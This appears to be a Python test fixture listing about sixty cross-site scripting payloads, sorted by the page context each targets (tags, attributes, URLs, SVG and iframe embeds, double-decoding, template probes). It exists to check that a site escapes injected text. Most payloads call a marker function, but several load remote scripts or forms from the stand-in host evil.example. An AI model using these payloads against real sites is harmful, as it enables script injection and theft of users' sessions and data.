"""Sixty ways of writing into a page what it should run. What is run calls `ran` (tests/browser/watching.py) or opens a dialog.

They are written as a sender would, for every place that a page may put words in: between tags, in attributes with either quote or
none, in addresses, in titles, in styles, in scripts, in templates, and for readers that decode once too often.
"""

from __future__ import annotations

TAGS = (
    "<script>ran(1)</script>",
    "<ScRiPt >ran(2)</sCrIpT >",
    "<script/x>ran(3)</script>",
    "<script src=//evil.example/4.js></script>",
    "<script type=module>import '//evil.example/5.js'</script>",
    "</script><script>ran(6)</script>",
    "<<script>ran(7);//<</script>",
    "<scr<script>ipt>ran(8)</scr</script>ipt>",
    "<script>/*\u2028*/ran(9)</script>",
    "<noscript><p title='</noscript><script>ran(10)</script>'>",
)
CLOSING = (
    "</title><script>ran(11)</script>",
    "</textarea><script>ran(12)</script>",
    "</style><script>ran(13)</script>",
    "</a></p></div></main></body></html><script>ran(14)</script>",
    "--><script>ran(15)</script><!--",
    "]]><script>ran(16)</script>",
    "</template></select></option><img src=x onerror=ran(17)>",
    "<!-- --!><img src=x onerror=ran(18)> -->",
)
HANDLERS = (
    "<img src=x onerror=ran(19)>",
    "<img src=x onerror=alert(20)//",
    "<body onload=ran(21)>",
    "<video><source onerror=ran(22)></video>",
    "<details open ontoggle=ran(23)>more</details>",
    "<input autofocus onfocus=ran(24)>",
    "<select autofocus onfocus=ran(25)></select>",
    "<marquee onstart=ran(26)>news</marquee>",
    "<p style=animation:x onanimationstart=ran(27)>p</p>",
    "<a href=# onpointerenter=ran(28)>here</a>",
    "<x contenteditable onblur=ran(29) tabindex=1>y",
)
ATTRIBUTES = (
    '" autofocus onfocus="ran(30)',
    "' autofocus onfocus='ran(31)",
    '"><script>ran(32)</script>',
    "'><script>ran(33)</script>",
    "x onmouseover=ran(34) y=",
    "` onmouseover=ran(35) `",
    '" style="background:url(//evil.example/36)',
    "\"'><img src=x onerror=ran(37)>",
    '" accesskey="x" onclick="ran(38)',
)
ADDRESSES = (
    "javascript:ran(39)",
    "JaVaScRiPt:alert(40)",
    "java\tscript:ran(41)",
    "\u00a0javascript:ran(42)",
    "javascript://example.org/%0Aran(43)",
    "data:text/html,<script>parent.ran(44)</script>",
    "vbscript:ran(45)",
    "https://user:word@evil.example/46",
    "//evil.example/47",
)
EMBEDDED = (
    "<svg/onload=ran(48)>",
    "<svg><script>ran(49)</script></svg>",
    "<svg><a xlink:href=javascript:ran(50)><text y=9>go</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(51)></style></mglyph></table></mtext></math>",
    '<iframe srcdoc="<script>parent.ran(52)</script>"></iframe>',
    "<iframe src=javascript:parent.ran(53)></iframe><object data=//evil.example/53></object>",
    "<meta http-equiv=refresh content='0;url=//evil.example/54'><base href=//evil.example/>",
    "<form action=//evil.example/55><button autofocus>send</button></form>",
    "<style>@import '//evil.example/56';body{display:none}</style><link rel=stylesheet href=//evil.example/56>",
)
READ_TWICE = (
    "&lt;script&gt;ran(57)&lt;/script&gt; &#x3c;img src=x onerror=ran(57)&#x3e; %3Cscript%3Eran(57)%3C/script%3E",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {{ ''.__class__.__mro__ }} {# 58 #}",
    "\u202e<script>ran(59)</script>\u202c \u2066אבג\u2069 \u200b\ufeff",
    "＜script＞ran(60)＜/script＞ \ue000ran(60)\ue001 \\u003cscript\\u003eran(60) \u2028alert(60)\u2029",
)
PAYLOADS = (*TAGS, *CLOSING, *HANDLERS, *ATTRIBUTES, *ADDRESSES, *EMBEDDED, *READ_TWICE)
